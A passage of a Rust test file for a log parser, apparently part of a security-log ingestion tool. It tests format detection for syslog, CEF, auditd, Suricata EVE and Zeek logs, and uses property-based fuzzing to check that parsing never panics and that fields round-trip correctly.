        Format::Cef,
        format!("CEF:0|v|p|1|c|n|1|{cef_keys}").as_bytes(),
        &origin(),
        0,
    )
    .expect("parses");
    assert_eq!(e.fields.len(), 7 + 60_000);
    let cef_eq = fill("CEF:0|v|p|1|c|n|1|k=", "a=");
    assert!(parse_line(Format::Cef, cef_eq.as_bytes(), &origin(), 0).is_ok());
    let audit = fill("type=EXECVE msg=audit(1.1:1):", " a=\"b\" w");
    assert!(parse_line(Format::Auditd, audit.as_bytes(), &origin(), 0).is_ok());
    let audit_keys: String = (0..60_000).map(|i| format!(" a{i}[{i}]=41")).collect();
    let line = format!("type=EXECVE msg=audit(1.1:1):{audit_keys}");
    assert!(parse_line(Format::Auditd, line.as_bytes(), &origin(), 0).is_ok());
}

// ---------------------------------------------------------------------------------------------------- detect

#[test]
fn detect_text_formats() {
    let cases: [(&str, &[u8], Option<Format>); 13] = [
        (
            "/var/log/suricata/eve.json",
            EVE_ALERT.as_bytes(),
            Some(Format::SuricataEve),
        ),
        ("capture.json", EVE_ALERT.as_bytes(), Some(Format::SuricataEve)),
        (
            "capture.json",
            br#"{"timestamp":"2024-01-02T03:04:05.1+0000","event_type":"stats","stats":{}}"#,
            Some(Format::SuricataEve),
        ),
        ("conn.log", ZEEK_CONN.as_bytes(), Some(Format::Zeek)),
        ("export.ndjson", ZEEK_CONN.as_bytes(), Some(Format::Zeek)),
        ("export.ndjson", br#"{"_path":"dns","ts":1}"#, Some(Format::Zeek)),
        ("export.ndjson", br#"{"EventID":4625}"#, Some(Format::Ndjson)),
        ("/var/log/audit/audit.log", b"whatever", Some(Format::Auditd)),
        (
            "collected.txt",
            b"node=h type=SYSCALL msg=audit(1.1:1): x=1\n",
            Some(Format::Auditd),
        ),
        ("fw.txt", b"CEF:0|a|b|c|d|e|f|", Some(Format::Cef)),
        (
            "/var/log/secure",
            b"Jan  2 03:04:05 host sshd[1]: x\n",
            Some(Format::Syslog),
        ),
        ("remote.txt", b"<13>1 - - - - - - x", Some(Format::Syslog)),
        ("conn.log", b"#separator \\x09\n#set_separator\t,\n", None),
    ];
    for (name, head, want) in cases {
        assert_eq!(Format::detect(name, head), want, "{name}");
    }
    assert_eq!(Format::detect("notes.txt", b"just some words"), None);
    assert_eq!(Format::detect("page.txt", b"<html>"), None);
}

// ---------------------------------------------------------------------------------------------------- properties

const TEXT_FORMATS: [Format; 5] = [
    Format::Syslog,
    Format::Cef,
    Format::SuricataEve,
    Format::Zeek,
    Format::Auditd,
];

/// Byte strings biased towards each format's structure, so the fuzzing reaches past the first check.
fn structured_bytes() -> impl Strategy<Value = Vec<u8>> {
    let prefix = prop_oneof![
        Just(&b""[..]),
        Just(&b"<13>1 "[..]),
        Just(&b"<34>Jan  2 03:04:05 "[..]),
        Just(&b"<191>1 - h a - - [id "[..]),
        Just(&b"CEF:0|"[..]),
        Just(&b"type=EXECVE msg=audit(1.1:1): "[..]),
        Just(&b"{\"ts\":"[..]),
    ];
    let body = proptest::collection::vec(
        prop_oneof![
            4 => any::<u8>(),
            6 => proptest::sample::select(&b"[]\"\\=|' :<>0123456789aAJ\x1d-.\t{}"[..]),
        ],
        0..200,
    );
    (prefix, body).prop_map(|(p, b)| [p, &b[..]].concat())
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        for format in TEXT_FORMATS {
            let _ = parse_line(format, &bytes, &origin(), 0);
        }
    }

    #[test]
    fn structured_bytes_never_panic(bytes in structured_bytes()) {
        for format in TEXT_FORMATS {
            let result = parse_line(format, &bytes, &origin(), 99);
            if let Err(e) = result {
                prop_assert_eq!(e.offset, 99);
            }
        }
    }

    #[test]
    fn syslog_5424_structured_data_round_trips(
        pri in 0u8..=191,
        id in "[a-zA-Z][a-zA-Z0-9@._-]{0,15}",
        params in proptest::collection::btree_map("[a-zA-Z][a-zA-Z0-9_]{0,8}", "\\PC{0,20}", 1..5),
        message in "[ -~]{0,40}[a-z]",
    ) {
        let sd: String = params
            .iter()
            .map(|(k, v)| format!(" {k}=\"{}\"", syslog::escape_sd_value(v)))
            .collect();
        let line = format!("<{pri}>1 2024-01-02T03:04:05Z host app 42 MID [{id}{sd}] \u{feff}{message}");
        let e = parse_line(Format::Syslog, line.as_bytes(), &origin(), 0).expect("parses");
        prop_assert_eq!(e.fields.get("priority"), Some(&json!(pri)));
        prop_assert_eq!(e.fields.get_str("message"), Some(message.as_str()));
        prop_assert_eq!(e.fields.get_str("pid"), Some("42"));
        for (k, v) in &params {
            let flat = format!("sd.{id}.{k}");
            prop_assert_eq!(e.fields.get_str(&flat), Some(v.as_str()));
        }
        let object: BTreeMap<&String, &String> = params.iter().collect();
        let mut want = serde_json::Map::new();
        want.insert(id.clone(), json!(object));
        prop_assert_eq!(e.fields.get("structured_data"), Some(&Value::Object(want)));
    }

    #[test]
    fn cef_extension_round_trips(
        header in proptest::collection::vec("[ -~é]{0,12}", 6),
        ext in proptest::collection::btree_map(
            "[a-z][a-zA-Z0-9]{0,10}",
            // A value's trailing whitespace is the separator, not part of the value.
            "([ -~é]|\n|\r){0,24}".prop_map(|v| v.trim_end().to_string()),
            0..6,
        ),
    ) {
        let header_names = ["deviceVendor", "deviceProduct", "deviceVersion", "deviceEventClassId", "name", "severity"];
        let ext: Vec<_> = ext
            .into_iter()
            .filter(|(k, _)| !k.ends_with("Label") && !header_names.contains(&k.as_str()) && k != "cef_version")
            .collect();
        let head: Vec<String> = header.iter().map(|h| h.replace('\\', "\\\\").replace('|', "\\|")).collect();
        let body: Vec<String> = ext.iter().map(|(k, v)| format!("{k}={}", cef::escape_extension_value(v))).collect();
        let line = format!("CEF:0|{}|{}", head.join("|"), body.join(" "));
        let e = parse_line(Format::Cef, line.as_bytes(), &origin(), 0).expect("parses");
        prop_assert_eq!(e.fields.get_str("cef_version"), Some("0"));
        for (name, value) in header_names.iter().zip(&header) {
            prop_assert_eq!(e.fields.get_str(name), Some(value.as_str()), "{}", name);
        }
        for (k, v) in &ext {
            prop_assert_eq!(e.fields.get_str(k), Some(v.as_str()), "{}", k);
        }
        prop_assert_eq!(e.fields.len(), 7 + ext.len());
    }

    #[test]
    fn auditd_values_round_trip(
        args in proptest::collection::vec("\\PC{0,16}", 1..6),
        pairs in proptest::collection::btree_map("[a-z][a-z_]{0,8}", "[!#-~]{1,16}", 0..6),
        serial in 0u64..1_000_000,
    ) {
        // EXECVE arguments, hex-encoded the way auditd does for anything unusual.
        let encoded: Vec<String> = args
            .iter()
            .enumerate()
            .map(|(i, a)| format!("a{i}={}", a.bytes().map(|b| format!("{b:02X}")).collect::<String>()))
            .collect();
        let line = format!("type=EXECVE msg=audit(1704164645.123:{serial}): argc={} {}", args.len(), encoded.join(" "));
        let e = parse_line(Format::Auditd, line.as_bytes(), &origin(), 0).expect("parses");
        let serial_text = serial.to_string();
        prop_assert_eq!(e.fields.get_str("audit_serial"), Some(serial_text.as_str()));
        for (i, a) in args.iter().enumerate() {
            let want = if a.is_empty() { "" } else { a.as_str() };
            prop_assert_eq!(e.fields.get_str(&format!("a{i}")), Some(want));
        }
        // Quoted values come back unquoted, whatever they contain (but a quote).
        let quoted: Vec<String> = pairs.iter().map(|(k, v)| format!("{k}=\"{v}\"")).collect();
        let line = format!("type=SYSCALL msg=audit(1.5:{serial}): {}", quoted.join(" "));
        let e = parse_line(Format::Auditd, line.as_bytes(), &origin(), 0).expect("parses");
        for (k, v) in &pairs {
            if k != "type" {
                prop_assert_eq!(e.fields.get_str(k), Some(v.as_str()), "{}", k);
            }
        }
    }

    #[test]
    fn json_formats_keep_members(
        members in proptest::collection::btree_map("[a-z._]{1,10}", prop_oneof![
            any::<i64>().prop_map(Value::from),
            "\\PC{0,12}".prop_map(Value::from),
            any::<bool>().prop_map(Value::from),
        ], 0..8),
    ) {
        let object: serde_json::Map<String, Value> = members.into_iter().collect();
        let line = serde_json::to_vec(&Value::Object(object.clone())).expect("serializes");
        for format in [Format::SuricataEve, Format::Zeek] {
            let e = parse_line(format, &line, &origin(), 0).expect("parses");
            prop_assert_eq!(e.fields.to_json(), Value::Object(object.clone()));
        }
    }
}
